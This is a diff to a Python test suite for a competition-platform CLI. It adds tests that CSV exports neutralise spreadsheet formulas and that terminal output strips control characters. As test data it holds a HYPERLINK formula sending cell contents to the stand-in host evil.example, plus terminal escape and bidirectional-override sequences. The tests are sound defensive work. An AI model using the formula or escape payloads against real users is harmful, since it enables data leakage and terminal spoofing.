@@ -274,7 +274,7 @@ def test_competitions_invite(podium: Podium, arena: Arena) -> None:
     assert again.err == "podium: error: bob already has a pending invitation to us.\n"
     ghost = podium("competitions", "invite", "arena", "ghost")
     assert ghost.code == 1
-    assert ghost.err == "podium: error: There is no user called 'ghost'.\n"
+    assert ghost.err.startswith("podium: error: No participant of ") and "'ghost'" in ghost.err
 
 
 def test_competitions_invitations_sent_and_received(podium: Podium, arena: Arena) -> None:
@@ -489,3 +489,44 @@ def test_the_installed_console_script_runs(
     )
     assert missing.returncode == 1
     assert missing.stderr == "podium: error: No such submission.\n"
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+ESCAPES = "\x1b]0;pwned\x07\x1b[2J\rbad\u202eevil"
+
+
+def test_csv_exports_neutralise_formulas_and_keep_numbers(
+    podium: Podium, arena: Arena, tmp_path: Path
+) -> None:
+    # Names made before names were checked (or by an organizer): exports must cope.
+    Team.objects.filter(pk=arena.rival.team_id).update(name=FORMULA)
+    Team.objects.filter(pk=arena.me.team_id).update(name="-2+3")
+    Submission.objects.filter(pk=arena.theirs.pk).update(public_score=-0.25)
+
+    podium("competitions", "leaderboard", "arena", "--download", "-p", tmp_path)
+    printed = podium("competitions", "leaderboard", "arena", "-v")
+
+    for text in ((tmp_path / "arena-public-leaderboard.csv").read_text(), printed.out):
+        rows = list(csv.DictReader(text.splitlines()))
+        assert [(r["team"], r["score"]) for r in rows] == [
+            ("'-2+3", "0.8"),
+            ("'" + FORMULA, "-0.25"),
+        ]
+
+
+def test_the_cli_prints_no_control_characters_from_the_server(podium: Podium, arena: Arena) -> None:
+    Team.objects.filter(pk=arena.rival.team_id).update(name=f"them{ESCAPES}")
+    Submission.objects.filter(pk=arena.mine.pk).update(description=f"run{ESCAPES}")
+
+    outputs = [
+        podium("competitions", "leaderboard", "arena", "--show"),
+        podium("competitions", "leaderboard", "arena", "-v"),
+        podium("competitions", "submissions", "arena"),
+        podium("submission", str(arena.mine.pk)),
+    ]
+
+    for result in outputs:
+        assert result.code == 0, result.err
+        for char in ("\x1b", "\x07", "\r", "\u202e"):
+            assert char not in result.out + result.err
+    assert "them]0;pwned[2Jbadevil" in outputs[0].out
